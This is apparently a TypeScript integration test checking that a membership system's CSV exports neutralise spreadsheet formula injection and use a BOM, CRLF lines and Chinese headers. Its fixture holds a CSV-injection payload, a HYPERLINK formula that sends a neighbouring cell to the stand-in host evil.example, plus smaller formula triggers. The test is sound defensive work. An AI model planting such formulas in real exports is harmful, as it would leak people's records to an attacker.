import { checkCharacter } from '@partybuild/app-membership';
import { eventually } from '@partybuild/testing';
import { ADMIN, TestStack, createOrg, startTestStack } from './fixtures';

/** A name a careless clerk (or an attacker) typed: Excel would make it a live link that sends the next cell away. */
const FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点我")';

const idNumber = (birth: string, seq: number) => {
  const first17 = `110105${birth.replace(/-/g, '')}${String(seq).padStart(3, '0')}`;
  return `${first17}${checkCharacter(first17)}`;
};

/** Cells of a CSV line, enough for these rows (quotes doubled inside quoted cells). */
const cells = (line: string): string[] =>
  [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
    .slice(0, -1)
    .map(([, c]) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));

describe('exports open safely in Excel', () => {
  let stack: TestStack;
  let root: string, branch: string;

  beforeAll(async () => {
    stack = await startTestStack();
    root = await createOrg(stack, { code: 'X', name: '区直机关工委', kind: 'WORKING_COMMITTEE' });
    branch = await createOrg(stack, { code: 'X-01', name: `@SUM(1+1)${'党支部'}`, kind: 'BRANCH', parentId: root });
    await eventually(
      async () =>
        (await stack.services.membership.dataSource.query(`SELECT 1 FROM org_node WHERE id = $1`, [branch])).length &&
        (await stack.services.statistics.dataSource.query(`SELECT 1 FROM org_node WHERE id = $1`, [branch])).length
          ? true
          : undefined,
      15_000,
      'the branch to reach membership and statistics',
    );
    for (const [name, seq] of [
      [FORMULA, 11],
      ['-2+3', 12],
      ['张三', 13],
    ] as const) {
      const result = await stack.as(ADMIN)(`mutation($input: RegisterMemberInput!) { registerMember(input: $input) { id } }`, {
        input: {
          organizationId: branch,
          name,
          idNumber: idNumber('1980-02-02', seq),
          stage: 'FULL',
          category: 'IN_SERVICE',
          joinedOn: '2005-07-01',
          post: '+科长',
        },
      });
      expect(result.errors).toBeUndefined();
    }
  }, 60_000);
  afterAll(() => stack?.stop());

  it('exports members with formula cells neutralised, a BOM and CRLF lines', async () => {
    const { data, errors } = await stack.as(ADMIN)(`query($id: ID!) { exportMembers(organizationId: $id) }`, { id: branch });
    expect(errors).toBeUndefined();
    const csv: string = data.exportMembers;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n').filter(Boolean);
    expect(lines[0].startsWith('name,idNumber,gender')).toBe(true);
    const rows = lines.slice(1).map(cells);
    const names = rows.map((r) => r[0]).sort();
    expect(names).toEqual([`'${FORMULA}`, "'-2+3", '张三'].sort());
    expect(rows.map((r) => r[7])).toEqual(["'+科长", "'+科长", "'+科长"]);
    // No cell of any row starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes Chinese column headers on request, in the names the importer reads', async () => {
    const { data } = await stack.as(ADMIN)(`query($id: ID!) { exportMembers(organizationId: $id, headers: CHINESE) }`, { id: branch });
    expect(data.exportMembers.slice(1).split('\r\n')[0]).toMatch(
      /^姓名,身份证号,性别,民族,学历,联系电话,工作单位,职务,人员类别,所在支部编码/,
    );
  });

  it('exports figures with the organisation name neutralised, in English or Chinese', async () => {
    const english = await stack.as(ADMIN)(`query($id: ID!) { statisticsCsv(period: "2026", under: $id) }`, { id: root });
    expect(english.errors).toBeUndefined();
    const csv: string = english.data.statisticsCsv;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n').filter(Boolean);
    expect(lines[0]).toMatch(/^period,organization_id,code,name,kind,members,/);
    const branchRow = lines.map(cells).find((r) => r[2] === 'X-01');
    expect(branchRow?.[3]).toBe("'@SUM(1+1)党支部");
    const chinese = await stack.as(ADMIN)(`query($id: ID!) { statisticsCsv(period: "2026", under: $id, headers: CHINESE) }`, { id: root });
    expect(chinese.data.statisticsCsv.slice(1).split('\r\n')[0]).toMatch(/^统计期间,组织ID,组织编码,组织名称,组织类别,党员人数,/);
  });
});
